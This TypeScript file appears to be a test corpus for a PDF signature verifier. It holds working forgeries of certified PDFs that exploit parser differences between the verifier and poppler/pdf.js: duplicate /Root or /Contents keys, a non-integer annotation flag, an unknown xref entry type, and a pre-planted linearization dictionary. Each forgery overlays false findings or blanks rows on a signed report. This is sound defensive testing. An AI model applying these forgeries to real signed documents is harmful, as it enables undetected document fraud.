/**
 * Bypasses found in the second review of the revision-aware verifier (pdfObjects.ts, pdfFile.ts,
 * diff.ts, verify.ts), after the corpus above was all caught. Each is a place where the verifier and
 * the viewers (poppler, pdf.js) read the same bytes differently:
 *  - a dictionary that repeats a key: the verifier keeps the first value (and walks the repeated ones
 *    only inside `deep`), poppler and pdf.js use the last. The trailer's /Root, and the keys of the
 *    page dictionaries that mapRoles walks by hand, are read first-wins;
 *  - an annotation flag that is not an integer (/F 6.5): the verifier truncates it to 6 (Hidden), the
 *    viewers refuse it and use 0 (shown);
 *  - a cross-reference stream entry of a type ISO 32000 says to ignore (3): the verifier ignores it,
 *    poppler and pdf.js give up on the cross-reference and rebuild it by scanning the file, where an
 *    object body inside another object's stream data counts (the verifier never looks there);
 *  - a linearization dictionary as the first object whose /L equals the final file length: viewers
 *    then take /N as the page count and pdf.js shows the object /O as page 1; the verifier reads no
 *    linearization dictionary.
 */
import type { Genuine } from './genuine';
import { FALSE_RECT, FALSE_TEXT, PERSONS_PRESENT_RECT, annotsOf, appearance, contentsOf, pageWithFont, refArray, rewrite, rewritten, whiteBoxWithText } from './forge';
import { appendUpdate, bytesOf, concatBytes, dictOf, hexText, latin1, mapDocument, readXref, ref, type ObjectDef } from './pdfWriter';

/** A forged page 1 under a new object number (`num`), drawing the false finding over the signed content; its two overlay streams are `num + 1` and `num + 2`. */
function forgedPageOne(pdf: Uint8Array, num: number, parent?: number): ObjectDef[] {
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const own = pageWithFont(pdf, page, { Contents: refArray([num + 1, ...contentsOf(pdf, page), num + 2]), ...(parent === undefined ? {} : { Parent: ref(parent) }) });
  return [
    { num, body: typeof own.body === 'string' ? own.body : '' },
    { num: num + 1, body: { data: 'q\n' } },
    { num: num + 2, body: { data: `Q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}`, compress: true } },
  ];
}

/**
 * Not prepared: the update adds a shadow catalog and page tree (new objects, unreachable for the
 * verifier) and a trailer that names /Root twice, the signed catalog first and the shadow one last.
 */
export function trailerDuplicateRoot(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const [catalog, pages, page] = [map.next, map.next + 1, map.next + 2];
  const objects: ObjectDef[] = [
    { num: catalog, body: rewrite(dictOf(pdf, map.root), { Pages: ref(pages) }) },
    { num: pages, body: `<< /Type /Pages /Kids ${refArray([page, ...map.pageNums.slice(1)])} /Count ${String(map.pageNums.length)} >>` },
    ...forgedPageOne(pdf, page, pages),
  ];
  return appendUpdate(pdf, { objects, trailer: { extra: `/Root ${ref(catalog)}` } });
}

/**
 * Not prepared, nobody signs: a new, empty signature field on page 1 (listed in /Fields and the
 * page's /Annots) whose widget paints the false finding, with /F 6.5. The verifier's `paints()` reads
 * the flags as 6 (Hidden|Print) and lets the widget pass; poppler and pdf.js refuse a flag word that
 * is not an integer, use 0, and draw it.
 */
export function signatureWidgetRealFlags(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const [widget, ap] = [map.next, map.next + 1];
  return appendUpdate(pdf, {
    objects: [
      { num: ap, body: appearance(FALSE_RECT, FALSE_TEXT) },
      { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${hexText('Signature4')} /Rect [${FALSE_RECT.join(' ')}] /F 6.5 /P ${ref(page)} /AP << /N ${ref(ap)} >> >>` },
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), widget]) }),
      rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), widget]) }),
    ],
  });
}

/**
 * Appends `objects` (each listed) with a cross-reference stream (uncompressed, /W [1 4 2]) that also
 * carries `extraRows` ([type, field 2, field 3] for the object numbers after the listed ones).
 */
function appendWithXrefStream(pdf: Uint8Array, objects: readonly ObjectDef[], extraRows: readonly (readonly [number, number, number])[] = [], trailerExtra = ''): Uint8Array {
  const previous = readXref(pdf);
  const bodies = appendUpdate(pdf, { objects: objects.map((o) => ({ ...o, orphan: true })), xref: 'none' });
  const text = latin1(bodies);
  const offsets = new Map<number, number>();
  let from = pdf.length;
  for (const object of objects) {
    const at = text.indexOf(`${String(object.num)} 0 obj\n`, from);
    offsets.set(object.num, at);
    from = at + 1;
  }
  const nums = [...offsets.keys()].sort((a, b) => a - b);
  const first = nums[0] ?? previous.size;
  const last = nums.at(-1) ?? first;
  const self = last + 1 + extraRows.length;
  const xrefAt = bodies.length;
  const rows: number[] = [];
  const row = (type: number, a: number, b: number): void => {
    rows.push(type, (a >>> 24) & 0xff, (a >>> 16) & 0xff, (a >>> 8) & 0xff, a & 0xff, (b >>> 8) & 0xff, b & 0xff);
  };
  for (let n = first; n <= last; n += 1) {
    const at = offsets.get(n);
    if (at === undefined) row(0, 0, 1);
    else row(1, at, 0);
  }
  for (const [type, a, b] of extraRows) row(type, a, b);
  row(1, xrefAt, 0);
  const size = Math.max(previous.size, self + 1);
  const head = `${String(self)} 0 obj\n<< /Type /XRef /Size ${String(size)} /W [1 4 2] /Index [${String(first)} ${String(self - first + 1)}] /Root ${previous.root ?? ''}${previous.info === null ? '' : ` /Info ${previous.info}`} /Prev ${String(previous.startxref)}${trailerExtra} /Length ${String(rows.length)} >>\nstream\n`;
  return concatBytes([bodies, bytesOf(head), new Uint8Array(rows), bytesOf(`\nendstream\nendobj\nstartxref\n${String(xrefAt)}\n%%EOF\n`)]);
}

/** A stream object whose data holds other objects' bodies, each on lines of its own (what a scan of the file finds). */
function containerOf(num: number, nested: readonly { readonly num: number; readonly body: string }[]): ObjectDef {
  const data = nested.map((o) => `\n${String(o.num)} 0 obj\n${o.body}\nendobj\n`).join('');
  return { num, body: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 0 0]', data } };
}

/**
 * Not prepared: the update's cross-reference stream lists two overlay streams and a container stream
 * (all new, reachable from nothing the verifier reads), plus one entry of type 3, which ISO 32000-1
 * Table 18 says to read as null and the verifier skips. poppler and pdf.js refuse the entry, give up
 * on the cross-reference and rebuild it by scanning the file: a page 1 body written inside the
 * container's data is then the latest definition of page 1.
 */
export function xrefStreamUnknownType(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [open, close, container] = [map.next, map.next + 1, map.next + 2];
  const forged = pageWithFont(pdf, page, { Contents: refArray([open, ...contentsOf(pdf, page), close]) });
  return appendWithXrefStream(
    pdf,
    [
      { num: open, body: { data: 'q\n' } },
      { num: close, body: { data: `Q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}` } },
      containerOf(container, [{ num: page, body: typeof forged.body === 'string' ? forged.body : '' }]),
    ],
    [[3, 0, 0]],
  );
}

/**
 * `pdf` (one classic cross-reference table, as the renderer writes it) with a linearization
 * dictionary inserted as its first object: every offset after it moves by the object's length.
 */
function withLinearizationDictionary(pdf: Uint8Array, dict: string): Uint8Array {
  const text = latin1(pdf);
  const xref = readXref(pdf);
  if (xref.sections.length !== 1) throw new Error('expected a file with one cross-reference table');
  const firstObject = /\n\d+ 0 obj/.exec(text);
  if (!firstObject) throw new Error('no first object');
  const insertAt = firstObject.index + 1;
  const num = xref.size;
  const object = `${String(num)} 0 obj\n${dict}\nendobj\n`;
  const shift = object.length;
  const tableAt = xref.startxref;
  const trailerAt = text.indexOf('trailer', tableAt);
  // Renumber the table's offsets, and list the new object in a subsection of its own.
  const table = text.slice(tableAt, trailerAt).replace(/^(\d{10}) (\d{5}) n/gm, (_m, offset: string, gen: string) => `${String(Number(offset) + shift).padStart(10, '0')} ${gen} n`);
  const entry = `${String(num)} 1\n${String(insertAt).padStart(10, '0')} 00000 n \n`;
  const trailer = text.slice(trailerAt, text.lastIndexOf('startxref')).replace(/\/Size \d+/, `/Size ${String(num + 1)}`);
  return concatBytes([pdf.subarray(0, insertAt), bytesOf(object), pdf.subarray(insertAt, tableAt), bytesOf(`${table}${entry}${trailer}startxref\n${String(tableAt + shift)}\n%%EOF\n`)]);
}

/**
 * Prepared before signing: the report's first object is a linearization dictionary (/Linearized,
 * /L a length the file does not have yet, /N 8 pages, /O an object number nobody uses yet). Alice
 * certifies it; while /L is not the file's length, viewers ignore it, so she sees the true report.
 * After signing, the forger appends page object /O (the signed page 1 with the false finding over it,
 * listed, reachable from nothing the verifier reads) and pads the file to exactly /L bytes with white
 * space after %%EOF. Now viewers take the file as linearized: poppler and pdf.js show /N pages (the
 * signature page, 9, is gone), and pdf.js shows object /O as page 1.
 */
export async function linearizedPrepared(g: Genuine): Promise<Uint8Array> {
  const unsigned = g.unsigned;
  const first = readXref(unsigned).size + 1000;
  const map = mapDocument(g.certified);
  const dict = (length: number): string => `<< /Linearized 1 /L ${String(length)} /H [1 1] /O ${String(first)} /E 1 /N ${String(map.pageNums.length - 1)} /T 1 >>`;
  const attack = (certified: Uint8Array): Uint8Array => appendUpdate(certified, { objects: forgedPageOne(certified, first).map((o, i) => (i === 0 && typeof o.body === 'string' ? { ...o, body: o.body.replace('/Type /Page', '/Type /Page /CropBox [0 0 595 841]') } : o)) });
  // A trial run gives the lengths (/L is written with as many digits as the final value).
  const trial = attack(await g.certify(withLinearizationDictionary(unsigned, dict(100_000))));
  const length = trial.length + 64;
  if (String(length).length !== 6) throw new Error('the report is no longer six digits long: widen /L');
  const attacked = attack(await g.certify(withLinearizationDictionary(unsigned, dict(length))));
  if (attacked.length > length) throw new Error('the attack is longer than /L');
  return concatBytes([attacked, bytesOf(' '.repeat(length - attacked.length))]);
}

/**
 * Prepared before signing: page 1 names /Contents twice, the signed streams first, then the same
 * streams between two of its own (`q`, and an empty `Q`). Viewers draw the last /Contents, which
 * looks the same; the verifier's page walk reads only the first, so the two extra streams belong to
 * no page in its eyes. After signing, the forger redefines the closing stream with the false finding.
 */
export async function pageDuplicateContents(g: Genuine): Promise<Uint8Array> {
  const pdf = g.unsigned;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined) throw new Error('no page 1');
  const [open, close] = [map.next, map.next + 1];
  const own = pageWithFont(pdf, page, {});
  const body = typeof own.body === 'string' ? own.body : '';
  const repeated = `${body.slice(0, body.lastIndexOf('>>'))}/Contents ${refArray([open, ...contentsOf(pdf, page), close])}\n>>`;
  const prepared = appendUpdate(pdf, { objects: [{ num: open, body: { data: 'q\n' } }, { num: close, body: { data: 'Q\n' } }, { num: page, body: repeated }] });
  const signed = await g.certify(prepared);
  return appendUpdate(signed, { objects: [{ num: close, body: { data: `Q\n${whiteBoxWithText(FALSE_RECT, FALSE_TEXT)}` } }] });
}

/**
 * Not prepared, nobody signs: a new, empty signature field on page 1 with no appearance stream at
 * all, only /MK << /BG [1 1 1] >> (a white background), over the rows naming the persons present
 * during the examination. `paints()` looks only at /AP, so the widget "paints nothing"; poppler
 * draws the background from /MK and the rows are blank on screen and in print.
 */
export function signatureWidgetBackgroundOnly(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const page = map.pageNums[0];
  if (page === undefined || map.acroForm === null) throw new Error('no page 1 or no form');
  const widget = map.next;
  return appendUpdate(pdf, {
    objects: [
      { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T ${hexText('Signature4')} /Rect [${PERSONS_PRESENT_RECT.join(' ')}] /F 4 /P ${ref(page)} /MK << /BG [1 1 1] /BC [1 1 1] >> >>` },
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), widget]) }),
      rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), widget]) }),
    ],
  });
}
